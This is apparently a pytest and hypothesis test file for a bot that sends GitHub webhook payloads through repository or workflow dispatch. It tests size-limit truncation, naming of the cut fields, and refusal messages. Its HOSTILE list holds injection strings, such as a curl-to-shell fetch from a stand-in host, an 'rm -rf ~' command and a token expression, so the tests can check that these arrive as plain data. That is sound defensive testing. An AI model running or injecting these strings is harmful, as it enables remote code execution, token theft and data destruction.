"""The payload always fits into what GitHub accepts, and names what was cut."""

import json
from dataclasses import dataclass

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.oot.dispatch.send_dispatch import MOST_CHARACTERS, client_payload, describe_refusal, workflow_inputs

HEAD, BASE = "a" * 40, "b" * 40
CALLBACK = "https://oot.example.org/api/oot/callback"
WAYS = pytest.mark.parametrize("as_input", [False, True], ids=["repository_dispatch", "workflow_dispatch"])


def webhook(**pull):
    """A pull_request webhook as GitHub sends it, with the fields that matter and some that do not."""
    repo = {"id": 1, "full_name": "org/project", "keys_url": "https://example.org/keys{/key_id}"}
    side = {"label": "octocat:change", "repo": repo, "user": {"login": "octocat", "id": 2, "type": "User"}}
    event = {
        "number": 7, "title": "Add a kernel", "body": "Please look.", "labels": [], "_links": {"self": "x"},
        "author_association": "NONE", "head": {**side, "ref": "change", "sha": HEAD},
        "base": {**side, "ref": "main", "sha": BASE},
    }  # fmt: skip
    return {"action": "opened", "number": 7, "pull_request": event | pull, "repository": repo}


def made(payload, *, as_input=False):
    return client_payload(
        event_type="pull_request", delivery_id="d-1", payload=payload, callback_url=CALLBACK, callback_token="t" * 500,
        as_input=as_input,
    )  # fmt: skip


def sent(client, *, as_input):
    """What travels, as the HTTP client writes it."""
    return json.dumps(workflow_inputs(client) if as_input else client)


@WAYS
def test_a_webhook_that_fits_is_sent_whole(as_input):
    assert made(webhook(), as_input=as_input)["payload"] == webhook()


@WAYS
@pytest.mark.parametrize("body", ["x" * 65_536, "\U0001f680" * 65_536, '"\\' * 32_768, "\u202e\n\t" * 20_000])
def test_the_longest_body_is_cut_and_named_and_everything_else_arrives(body, as_input):
    client = made(webhook(body=body), as_input=as_input)
    assert len(sent(client, as_input=as_input)) <= MOST_CHARACTERS
    inner = client["payload"]
    assert "pull_request.body" in inner["truncated"]
    assert "pull_request._links" in inner["truncated"]
    assert body.startswith(inner["pull_request"]["body"])
    assert inner["pull_request"]["title"] == "Add a kernel"
    assert inner["pull_request"]["head"]["sha"] == HEAD


@WAYS
def test_as_much_of_the_body_is_kept_as_there_is_room_for(as_input):
    client = made(webhook(body="\U0001f680" * 65_536), as_input=as_input)
    assert MOST_CHARACTERS - 12 <= len(sent(client, as_input=as_input)) <= MOST_CHARACTERS


@WAYS
def test_thousands_of_labels_leave_room_for_the_rest(as_input):
    labels = [{"name": f"label number {number} \U0001f680", "color": "fff"} for number in range(5_000)]
    client = made(webhook(labels=labels, body="b" * 20_000), as_input=as_input)
    assert len(sent(client, as_input=as_input)) <= MOST_CHARACTERS
    inner = client["payload"]
    assert inner["truncated"].count("pull_request.labels") == 1
    assert inner["pull_request"]["labels"][0] == {"name": "label number 0 \U0001f680"}
    assert len(inner["pull_request"]["labels"]) > 100
    assert inner["pull_request"]["body"] == "b" * 20_000


@WAYS
@pytest.mark.parametrize("number", [3, 2_048])
def test_of_a_large_push_base_pusher_and_the_commits_titles_arrive(as_input, number):
    repo = {"id": 1, "full_name": "org/project"}
    commits = [
        {
            "id": f"{at:040x}",
            "message": f"Change {at} \U0001f680\n\n{'why ' * 9_000}",
            "tree_id": "f" * 40,
            "added": ["a" * 200] * 30,
        }
        for at in range(number)
    ]
    push = {
        "ref": "refs/heads/release/2", "base_ref": "refs/heads/main", "before": BASE, "after": HEAD,
        "deleted": False, "pusher": {"name": "octocat", "email": "o@example.org", "date": "x"}, "repository": repo,
        "commits": commits, "head_commit": commits[-1], "compare": "https://example.org/compare",
    }  # fmt: skip
    client = made(push, as_input=as_input)
    assert len(sent(client, as_input=as_input)) <= MOST_CHARACTERS
    inner = client["payload"]
    assert inner["base_ref"] == "refs/heads/main"
    assert inner["pusher"] == {"name": "octocat", "email": "o@example.org"}
    assert inner["commits"][0] == {"id": "0" * 40, "message": "Change 0 \U0001f680"}
    assert len(inner["commits"]) >= min(number, 400)
    assert {"commits[].message", "commits[].added", "pusher.date"} <= set(inner["truncated"])
    assert ("commits" in inner["truncated"]) == (len(inner["commits"]) < number)


@WAYS
def test_a_thousand_unknown_fields_are_counted_not_named_one_by_one(as_input):
    payload = webhook() | {f"new_{number}": "y" * 100 for number in range(1_000)}
    client = made(payload, as_input=as_input)
    assert len(sent(client, as_input=as_input)) <= MOST_CHARACTERS
    assert client["payload"]["truncated"][-1] == "and 904 more"


@WAYS
def test_when_nothing_else_helps_what_names_the_commit_still_arrives(as_input):
    payload = webhook(html_url="z" * 70_000)
    inner = made(payload, as_input=as_input)["payload"]
    assert inner["truncated"] == ["*"]
    assert inner["pull_request"]["head"]["sha"] == HEAD
    assert inner["repository"]["full_name"] == "org/project"


HOSTILE = [
    "$(curl evil.example|sh)",
    "`id`",
    "${{ github.token }}",
    "';rm -rf ~;'",
    "a\nb",
    "a\0b",
    "%0A::warning::",
]


@WAYS
@pytest.mark.parametrize("text", HOSTILE)
def test_shell_and_expression_syntax_arrives_as_the_data_it_is(text, as_input):
    payload = webhook(title=text, body=text * 10_000)
    payload["pull_request"]["head"]["ref"] = text
    client = made(payload, as_input=as_input)
    arrived = (
        json.loads(workflow_inputs(client)["client_payload"]) if as_input else json.loads(json.dumps(client))
    )
    pull = arrived["payload"]["pull_request"]
    assert (pull["title"], pull["head"]["ref"]) == (text, text)


@dataclass(frozen=True)
class Times:
    """Something said many times; a failing example stays readable."""

    value: object
    times: int


def spelled_out(value):
    if isinstance(value, Times):
        return value.value * value.times if isinstance(value.value, str) else [value.value] * value.times
    if isinstance(value, dict):
        return {spelled_out(name): spelled_out(inner) for name, inner in value.items()}
    return [spelled_out(inner) for inner in value] if isinstance(value, list) else value


texts = st.one_of(
    st.text(max_size=40), st.builds(Times, st.text(min_size=1, max_size=3), st.integers(1, 70_000))
)
anything = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(-(2**63), 2**63), texts),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)
pulls = st.fixed_dictionaries({}, optional={
    "title": anything, "body": anything, "html_url": anything, "number": anything,
    "labels": st.one_of(anything, st.builds(Times, st.fixed_dictionaries({"name": st.text(max_size=40)}), st.integers(0, 9_000))),
    "head": st.one_of(anything, st.fixed_dictionaries({"sha": anything, "ref": anything, "repo": anything})),
})  # fmt: skip
webhooks = st.fixed_dictionaries(
    {},
    optional={
        "action": anything, "ref": anything, "pull_request": st.one_of(pulls, anything), "repository": anything,
        "head_commit": anything, "unknown": anything, Times("another\U0001f680", 9_000): anything,
    },
)  # fmt: skip


@settings(max_examples=150)
@given(payload=webhooks, as_input=st.booleans())
def test_whatever_a_webhook_holds_it_fits(payload, as_input):
    payload = spelled_out(payload)
    client = made(payload, as_input=as_input)
    assert len(client) <= 10
    assert len(sent(client, as_input=as_input)) <= MOST_CHARACTERS
    if client["payload"] != payload:
        assert client["payload"]["truncated"]


@pytest.mark.parametrize(
    ("status", "message", "state", "word"),
    [
        (404, "Not Found", "not_installed", "may not dispatch"),
        (403, "This installation has been suspended", "not_installed", "suspended"),
        (403, "Repository was archived so is read-only.", "failed", "archived"),
        (403, "Resource not accessible by integration", "not_installed", "permission"),
        (301, "Moved Permanently", "failed", "renamed"),
        (307, "Temporary Redirect", "failed", "renamed"),
        (422, "No ref found for: main", "failed", "422"),
    ],
)
def test_every_refusal_has_a_state_and_a_reason(status, message, state, word):
    assert describe_refusal(status, message)[0] == state
    assert word in describe_refusal(status, message)[1]
